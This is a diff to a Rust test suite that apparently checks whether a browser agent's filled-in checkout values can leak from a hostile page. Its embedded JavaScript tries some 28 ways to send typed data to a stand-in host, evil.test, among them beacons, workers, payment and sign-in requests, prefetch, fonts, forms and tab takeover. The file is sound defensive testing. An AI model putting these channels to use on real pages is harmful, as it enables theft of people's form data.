@@ -6,7 +6,8 @@ use std::time::{Duration, Instant};
 use crate::stage::{FORM, REQUEST, Stage};
 
 /// Sends what is typed to the attacker in every way that a script has, and says so when it has tried them all.
-const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe><script>
+const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe>
+  <iframe id="late"></iframe><a id="a"></a><script>
   const to = 'https://evil.test:PORT/';
   const ways = {
     fetch: (d) => fetch(to + 'fetch?' + d, { mode: 'no-cors' }),
@@ -18,10 +19,28 @@ const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></i
     socket: (d) => new WebSocket(`${to.replace('https', 'wss')}socket?${d}`),
     worker: (d) => new Worker(URL.createObjectURL(new Blob([`fetch('${to}worker?${d}', { mode: 'no-cors' })`]))),
     other: (d) => document.getElementById('inner').contentWindow.postMessage(to + 'other?' + d, '*'),
+    late: (d) => [300, 1000, 2000].forEach((wait) => setTimeout(() => document.getElementById('late').contentWindow.postMessage(d, '*'), wait)),
     sandbox: (d) => document.body.insertAdjacentHTML('beforeend',
       `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('${to}sandbox?${d}', { mode: 'no-cors' })<\/script>"></iframe>`),
     blank: (d) => { const el = document.body.appendChild(document.createElement('iframe'));
       el.contentWindow.fetch(to + 'blank?' + d, { mode: 'no-cors' }); },
+    // What the browser fetches by itself: who pays, who signs in, what may be visited next.
+    payment: (d) => new PaymentRequest([{ supportedMethods: to + 'payment/' + d }],
+      { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
+    signin: (d) => navigator.credentials.get({ identity: { providers: [{ configURL: to + 'signin/' + d, clientId: 'x', nonce: 'x' }] } }),
+    ahead: (d) => document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
+      textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [to + 'ahead?' + d], eagerness: 'immediate' }] }) })),
+    ping: (d) => { const a = document.getElementById('a'); a.href = '#x'; a.ping = to + 'ping?' + d; a.click(); },
+    events: (d) => new EventSource(to + 'events?' + d),
+    later: (d) => fetchLater(to + 'later?' + d, { activateAfter: 0 }),
+    manifest: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: to + 'manifest?' + d })),
+    prefetch: (d) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to + 'prefetch?' + d })),
+    media: (d) => document.body.insertAdjacentHTML('beforeend', `<video src="${to}media?${d}"></video>`),
+    object: (d) => document.body.insertAdjacentHTML('beforeend', `<object data="${to}object?${d}"></object>`),
+    font: (d) => document.head.insertAdjacentHTML('beforeend', `<style>@import '${to}import?${d}';
+      @font-face { font-family: z; src: url('${to}font?${d}') } body { font-family: z }</style>`),
+    shared: (d) => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${to}shared?${d}', { mode: 'no-cors' })`]))),
+    opaque: (d) => new Worker('data:text/javascript,' + encodeURIComponent(`fetch('${to}opaque?${d}', { mode: 'no-cors' })`)),
     redirect: (d) => fetch('/redirect?' + d, { mode: 'no-cors' }),
     form: (d) => { const form = document.createElement('form'); Object.assign(form, { action: to + 'form', method: 'post', target: 'f' });
       form.append(Object.assign(document.createElement('input'), { name: 'd', value: d })); document.body.append(form); form.submit(); },
@@ -31,9 +50,18 @@ const SENDS: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></i
     for (const way of Object.values(ways)) { try { Promise.resolve(way(d)).catch(() => {}); } catch {} }
     setTimeout(() => { document.body.dataset.sent = ''; }, 700);
   };
+  addEventListener('load', () => setTimeout(() => { document.getElementById('late').src = to + 'slow'; }, 50));
   let timer;
   addEventListener('input', () => { clearTimeout(timer); timer = setTimeout(send, 50); });
   </script><iframe name="f"></iframe>"#;
+
+/// Takes the tab away by a frame that has no origin, which needs no press of the person's.
+const TAKES: &str = "void setTimeout(() => document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<script>top.location = '${to}taken?` +
+    encodeURIComponent(document.forms[0].elements.street.value) + `'<\\/script>\" sandbox='allow-scripts allow-top-navigation'></iframe>`))";
+
+/// A document of the attacker's own, which sends to where it came from.
+const LATE: &str = "<!doctype html><script>
+    addEventListener('message', (e) => { new Image().src = '/mine?' + encodeURIComponent(e.data); });</script>";
 
 const FRAME: &str =
     "<!doctype html><script>addEventListener('message', (e) => { new Image().src = e.data; });</script>";
@@ -43,6 +71,7 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     let mut stage = Stage::new(17);
     stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS}"));
     stage.site.put("bank.test/frame", FRAME);
+    stage.site.put("evil.test/slow", LATE);
     stage.site.put("bank.test/", "<!doctype html><img src='https://evil.test:PORT/logo'>");
     let redirect = stage.site.url("evil.test/redirected");
     stage.site.redirect("shop.test/redirect", &redirect);
@@ -54,11 +83,28 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     // Without a value in it the page sends what it likes: so the attacker does listen.
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
-    let before = stage.site.sent_to("evil.test");
-    for way in WAYS {
-        assert!(before.contains(&format!("evil.test /{way}")), "{way} is no way: {before}");
-    }
+    let listens = |stage: &Stage, ways: &[&str]| {
+        let began = Instant::now();
+        while let Some(way) =
+            ways.iter().find(|way| !stage.site.sent_to("evil.test").contains(&format!("evil.test /{way}")))
+        {
+            assert!(
+                began.elapsed() < Duration::from_secs(10),
+                "{way} is no way: {}",
+                stage.site.sent_to("evil.test")
+            );
+            thread::sleep(Duration::from_millis(100));
+        }
+    };
+    listens(&stage, &WAYS);
+    stage.browser().evaluate(TAKES);
+    listens(&stage, &["taken"]);
+    thread::sleep(Duration::from_millis(700));
+    // From here on the attacker's own document is on its way while the form is filled.
+    stage.site.hold("evil.test/slow");
     stage.browser().open(&url);
+    thread::sleep(Duration::from_millis(500));
+    let before = stage.site.sent_to("evil.test");
     stage.task();
     stage.agent_until(None, "Deliver to");
     let reply = stage.agent(Some(REQUEST));
@@ -66,6 +112,13 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     wait_for(&mut stage, "'sent' in document.body.dataset");
     assert_eq!(stage.browser().values()["street"], stage.value("street"));
     assert_eq!(stage.site.sent_to("evil.test"), before, "after the fill nothing goes there");
+
+    stage.site.let_go("evil.test/slow");
+    thread::sleep(Duration::from_millis(300));
+    stage.browser().evaluate("send()");
+    wait_for(&mut stage, "'sent' in document.body.dataset");
+    thread::sleep(Duration::from_millis(500));
+    assert_eq!(stage.site.sent_to("evil.test"), before, "a document that came later sends nothing");
 
     // Nor by taking the whole tab there, nor from another tab of the same site, a worker stopped meanwhile or not.
     stage.browser().stop_worker();
@@ -76,20 +129,19 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     stage.browser().evaluate(&leave);
     thread::sleep(Duration::from_millis(700));
     stage.browser().tab(&url);
-    // A frame without an origin is told by its tab alone, and that is known a moment after the page is there.
+    // What is told by its tab alone, or by the policy of the page, is known a moment after the page is there.
     thread::sleep(Duration::from_millis(800));
     stage.browser().evaluate("send()");
     wait_for(&mut stage, "'sent' in document.body.dataset");
+    stage.browser().evaluate(TAKES);
+    thread::sleep(Duration::from_millis(700));
     assert_eq!(stage.site.sent_to("evil.test"), before, "nor by leaving, nor from another tab");
 
-    // Another site in the same tab is left alone, and the shop is narrow again when the person comes back.
+    // Another site in another tab is left alone, and the shop is narrow when the person comes back.
     let bank = stage.site.url("bank.test/");
-    let began = Instant::now();
-    while !stage.site.sent_to("evil.test").contains("/logo") {
-        assert!(began.elapsed() < Duration::from_secs(10), "another site's page is not ours to narrow");
-        stage.browser().open(&bank);
-        thread::sleep(Duration::from_millis(200));
-    }
+    stage.browser().tab(&bank);
+    thread::sleep(Duration::from_millis(300));
+    assert!(stage.site.sent_to("evil.test").contains("/logo"), "another site's page is not ours to narrow");
     let before = stage.site.sent_to("evil.test");
     stage.browser().open(&url);
     thread::sleep(Duration::from_millis(800));
@@ -107,12 +159,14 @@ fn a_page_that_was_given_values_sends_them_nowhere_else_until_the_task_is_over()
     let began = Instant::now();
     while stage.site.sent_to("evil.test") == before {
         assert!(began.elapsed() < Duration::from_secs(20), "the task is over, and the way still narrow");
-        stage.browser().evaluate("ways.fetch('after')");
+        // The policy that a document was given goes with it.
+        stage.browser().open(&url);
+        stage.browser().evaluate("void ways.fetch('after').catch(() => {})");
         thread::sleep(Duration::from_millis(300));
     }
 }
 
-const WAYS: [&str; 13] = [
+const WAYS: [&str; 28] = [
     "fetch",
     "beacon",
     "image",
@@ -122,8 +176,23 @@ const WAYS: [&str; 13] = [
     "socket",
     "worker",
     "other",
+    "mine",
     "sandbox",
     "blank",
+    "payment",
+    "signin",
+    "ahead",
+    "ping",
+    "events",
+    "later",
+    "manifest",
+    "prefetch",
+    "media",
+    "object",
+    "import",
+    "font",
+    "shared",
+    "opaque",
     "redirected",
     "form",
 ];
